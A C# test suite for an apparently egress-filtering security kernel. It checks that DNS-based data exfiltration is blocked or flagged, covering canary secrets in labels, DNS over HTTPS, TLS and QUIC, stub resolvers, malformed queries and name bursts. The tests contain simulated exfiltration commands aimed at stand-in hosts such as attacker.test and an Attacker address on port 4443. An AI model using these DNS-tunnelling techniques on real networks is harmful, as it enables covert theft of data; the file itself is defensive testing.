namespace Sallyport.Kernel.Tests;

/// <summary>Techniques D1 to D10 and D15: names as a way out.</summary>
public sealed class DnsTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private const string Long = "aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffff";

    private string SecretName => $"{Canary}.attacker.test";

    [Theory]
    [EveryMode(Resolver, Resolver6)]
    public Task A_secret_in_a_label_does_not_leave(LabMode mode, string resolver) =>
        ProveAsync(mode, Asked(Command("dns", "ask", resolver, SecretName, "A"), SecretName, "A", "name"));

    /// <summary>Technique D8: a rule for the resolver's address is none for what it is asked.</summary>
    [Theory]
    [EveryMode("udp", "tcp", "bytes")]
    public Task A_rule_for_the_resolvers_address_does_not_let_every_name_through(LabMode mode, string how) =>
        ProveAsync(mode, Asked(
            Command("dns", "ask", Resolver, SecretName, "A", how) with { Allow = [$"udp://{Resolver}:53", $"{Resolver}:*"] },
            SecretName,
            "A",
            "name"));

    [Theory]
    [EveryMode]
    public Task A_name_of_255_bytes_does_not_leave(LabMode mode)
    {
        // 24 + 3 * 61 + 32 + 14 with their length bytes, and the root: 255 on the wire.
        var name = $"{Canary}.{Long}.{Long}.{Long}.{Long[..30]}.attacker.test";
        return ProveAsync(mode, Asked(Command("dns", "ask", Resolver, name, "A"), name, "A", "name"));
    }

    [Theory]
    [EveryMode]
    public Task Letters_in_mixed_case_are_the_same_name(LabMode mode)
    {
        var name = $"{Canary}.AtTaCkEr.TeSt";
        return ProveAsync(
            mode, Asked(Command("dns", "ask", Resolver, name, "A"), SecretName, "A", "name"));
    }

    [Theory]
    [EveryMode("CNAME", "SOA", "PTR", "SRV")]
    public Task A_question_of_another_listed_type_is_judged_by_its_name(LabMode mode, string type) =>
        ProveAsync(mode, Asked(Command("dns", "ask", Resolver, SecretName, type), SecretName, type, "name"));

    [Theory]
    [EveryMode("TXT", "NULL", "SVCB", "HTTPS", "ANY")]
    public Task A_question_of_an_unlisted_type_does_not_leave(LabMode mode, string type)
    {
        var name = $"{Canary}.allowed.test";
        return ProveAsync(mode, new Attack
        {
            Command = Command("dns", "ask", Resolver, name, type) with { Allow = ["*.allowed.test"] },
            Row = Row.Either(
                Row.Question(name, type), Row.Question(name, "TYPE10"), Row.Question(name, "TYPE64"),
                Row.Question(name, "TYPE65"), Row.Question(name, "TYPE255")),
            Reasons = ["question-type"],
            Exe = "dns",
        });
    }

    [Theory]
    [EveryMode(PublicResolver, ForeignResolver, ForeignResolver6, CloudPlatform)]
    public Task A_resolver_that_the_machine_does_not_name_is_a_mere_destination(LabMode mode, string resolver) =>
        ProveAsync(mode, new Attack
        {
            Command = Command("dns", "ask", resolver, SecretName, "A"),
            Row = Row.Connection("udp", 53, resolver),
            Reasons = ["no-rule"],
            Exe = "dns",
            Silent = (resolver, 53),
        });

    [Theory]
    [EveryMode(PublicResolver, ForeignResolver6)]
    public Task A_foreign_resolver_over_TCP_is_refused(LabMode mode, string resolver) =>
        ProveAsync(mode, new Attack
        {
            Command = Command("dns", "ask", resolver, SecretName, "A", "tcp"),
            Row = Row.Connection("tcp", 53, resolver),
            Reasons = ["dns-tcp"],
            Exe = "dns",
            Silent = (resolver, 53),
        });

    [Theory]
    [EveryMode("tcp", "bytes")]
    public Task An_unlisted_name_over_TCP_does_not_leave(LabMode mode, string how) => ProveAsync(mode, Asked(
        Command("dns", "ask", Resolver, SecretName, "A", how), SecretName, "A", "name"));

    [Theory]
    [EveryMode]
    public Task An_unlisted_name_over_TCP_and_IPv6_does_not_leave(LabMode mode) => ProveAsync(mode, Asked(
        Command("dns", "ask", Resolver6, SecretName, "A", "tcp"), SecretName, "A", "name"));

    [Theory]
    [EveryMode]
    public Task DNS_over_HTTPS_is_a_mere_destination(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Command(
            "curl", "-sS", "--max-time", "30", "--resolve", $"doh.test:443:{ForeignResolver}", "--data", Canary,
            "https://doh.test/dns-query"),
        Row = Row.Connection("tcp", 443, ForeignResolver),
        Reasons = ["no-rule"],
        Exe = "curl",
        Silent = (ForeignResolver, 443),
    });

    [Theory]
    [EveryMode(ForeignResolver, Resolver)]
    public Task DNS_over_TLS_is_a_mere_destination(LabMode mode, string resolver) => ProveAsync(mode, new Attack
    {
        Command = Command(
            "curl", "-sS", "--max-time", "30", "--resolve", $"doh.test:853:{resolver}",
            $"https://doh.test:853/{Canary}"),
        Row = Row.Connection("tcp", 853, resolver),
        Reasons = ["no-rule"],
        Exe = "curl",
        Silent = (resolver, 853),
    });

    /// <summary>What the policy lists is no way around it: a resolver of somebody else's, over UDP and TCP, over TLS and over HTTPS.</summary>
    [Theory]
    [InlineData("udp", $"udp://{ForeignResolver}:53")]
    [InlineData("tcp", $"tcp://{ForeignResolver}:53")]
    [InlineData("tls", $"tcp://{ForeignResolver}:853")]
    [InlineData("https", $"tcp://{ForeignResolver}:443")]
    [InlineData("https", "doh.test:443")]
    public async Task A_resolver_that_the_policy_lists_is_asked(string how, string rule)
    {
        var curl = "curl -sS --max-time 30 -o /dev/null" + (rule.StartsWith("tcp", StringComparison.Ordinal) ? $" --resolve doh.test:443:{ForeignResolver}" : "");
        var run = await PassAsync(Script(how switch
        {
            "tls" => $"curl -sS --max-time 30 -o /dev/null --resolve doh.test:853:{ForeignResolver} https://doh.test:853/{Canary}",
            "https" => $"{curl} 'https://doh.test/dns-query?dns={Canary}'",
            _ => $"{Program("dns")} ask {ForeignResolver} {SecretName} A {how}",
        }) with
        {
            Allow = [rule],
        });
        Assert.True(run.Traffic.Contains(Canary), $"Nothing arrived.\n{run}");
        Assert.Contains(run.Report.Connections, row => row is { Address: ForeignResolver, Verdict: "allowed", Reason: "rule" });
    }

    /// <summary>Rules of <c>deny</c> hold where nothing else is refused, and the caller is told at once.</summary>
    [Theory]
    [InlineData("udp")]
    [InlineData("tcp")]
    public async Task A_name_that_the_policy_denies_does_not_exist_in_audit_mode_too(string how)
    {
        var command = Command("dns", "ask", Resolver, SecretName, "A", how);
        var control = await Lab.RunAsync(LabMode.Audit, command);
        Assert.True(control.Traffic.Contains(Canary), $"Audit refuses what no rule denies.\n{control}");

        var run = await NoSuchNameAsync(LabMode.Audit, command with
        {
            Allow = [], Policy = "version: 1\nmode: audit\nallow: [\"*.attacker.test\"]\ndeny: [\"*.attacker.test\"]\n",
        });
        Assert.False(run.Traffic.Contains(Canary), run.ToString());
        Assert.Contains(run.Report.Dns, row => row.Name == SecretName && row is { Verdict: "refused", Reason: "denied" });
    }

    [Theory]
    [EveryMode("853", "443", "784")]
    public Task DNS_over_QUIC_and_DNSCrypt_are_mere_datagrams(LabMode mode, string port) =>
        ProveAsync(mode, new Attack
        {
            Command = Command("udp", "sendto", Resolver, port, Canary),
            Row = Row.Connection("udp", int.Parse(port, System.Globalization.CultureInfo.InvariantCulture), Resolver),
            Reasons = ["no-rule"],
            Exe = "udp",
        });

    /// <summary>On loopback, and at an address of the machine, as a bridge of virtual machines has one.</summary>
    [Theory]
    [EveryMode(Stub, LabAddresses.Client, Client6)]
    public async Task A_stub_on_this_machine_is_no_way_around(LabMode mode, string address)
    {
        using var stub = Lab.Start("dns", "stub", address, Resolver);
        await stub.SaysAsync("listening", TimeSpan.FromMinutes(1));
        await ProveAsync(mode, new Attack
        {
            Command = Command("dns", "ask", address, SecretName, "A"),
            Row = Row.Either(Row.Question(SecretName, "A"), Row.Connection("udp", 53, address)),
            Reasons = ["name", "no-rule"],
            Exe = "dns",
        });
    }

    [Theory]
    [EveryMode]
    public Task A_second_question_in_the_message_does_not_ride_along(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Command("dns", "two", Resolver, "allowed.test", SecretName),
        Row = Row.AnyQuestion(),
        Reasons = ["question-count"],
        Exe = "dns",
    });

    [Theory]
    [EveryMode]
    public Task Bytes_behind_the_question_do_not_ride_along(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Command("dns", "trailing", Resolver, "allowed.test", Canary),
        Row = Row.AnyQuestion(),
        Reasons = ["dns-malformed"],
        Exe = "dns",
    });

    [Theory]
    [EveryMode]
    public Task A_dot_inside_a_label_is_no_label_boundary(LabMode mode)
    {
        // One label `CANARY.allowed` below the zone `test`, which is not *.allowed.test.
        return ProveAsync(mode, new Attack
        {
            Command = Command("dns", "ask", Resolver, $"{Canary}\\046allowed.test", "A") with
            {
                Allow = ["*.allowed.test"],
            },
            Row = Row.AnyQuestion(),
            Reasons = ["dns-malformed", "name"],
            Exe = "dns",
        });
    }

    [Theory]
    [EveryMode("evilallowed.test", "allowed.test.attacker.test")]
    public Task A_name_that_only_contains_an_allowed_one_is_another_name(LabMode mode, string name) =>
        ProveAsync(mode, new Attack
        {
            Command = Command("dns", "ask", Resolver, name, "A") with { Allow = ["allowed.test", "*.allowed.test"] },
            Arrived = run => run.Traffic.Contains(name),
            Row = Row.Question(name, "A"),
            Reasons = ["name"],
            Exe = "dns",
        });

    [Theory]
    [EveryMode]
    public Task A_reverse_name_gives_an_address_nothing(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Script(
            $"{Program("dns")} ask {Resolver} 66.100.51.198.in-addr.arpa PTR || true",
            $"exec {Program("tcp")} connect {Attacker} 4443 {Canary}") with
        {
            Allow = ["allowed.test:4443", "dns://66.100.51.198.in-addr.arpa"],
        },
        Row = Row.Connection("tcp", 4443, Attacker),
        Reasons = ["no-rule"],
        Exe = "tcp",
        Silent = (Attacker, 4443),
    });

    /// <summary>The policy allows them, in block mode too: that it is a tunnel is for a person to see (THREAT-MODEL).</summary>
    [Theory]
    [EveryMode]
    public async Task Many_new_names_below_an_allowed_wildcard_are_a_finding(LabMode mode)
    {
        var run = await Lab.RunAsync(mode, Command("dns", "burst", Resolver, "200", "allowed.test") with
        {
            Allow = ["*.allowed.test"],
        });
        Assert.Equal("200 answered\n", run.Process.Output);
        Assert.Equal(200, run.Traffic.Questions.Select(question => question.Name).Distinct().Count());
        Assert.True(
            mode == LabMode.Off || run.Report.Findings.Any(f => f.Id.StartsWith("dns-", StringComparison.Ordinal)),
            $"200 names that nobody asked before, and no finding says so.\n{run}");
    }

    /// <summary>D1 where no policy is, by labels too short to look encoded.</summary>
    [Theory]
    [InlineData(LabMode.Off)]
    [InlineData(LabMode.Audit)]
    public async Task Very_many_names_below_a_zone_that_no_rule_names_are_a_finding(LabMode mode)
    {
        var run = await Lab.RunAsync(mode, Command("dns", "burst", Resolver, "200", "attacker.test"));
        Assert.Equal(200, run.Traffic.Questions.Select(question => question.Name).Distinct().Count());
        if (mode != LabMode.Off)
        {
            var row = AssertFound(run, "dns-many-names", "reported", "dns");
            Assert.Equal("attacker.test", row.Evidence["zone"]);
        }
    }

    private static Attack Asked(LabCommand command, string name, string type, params string[] reasons) => new()
    {
        Command = command,
        Row = Row.Question(name, type),
        Reasons = [.. reasons],
        Exe = "dns",
    };
}
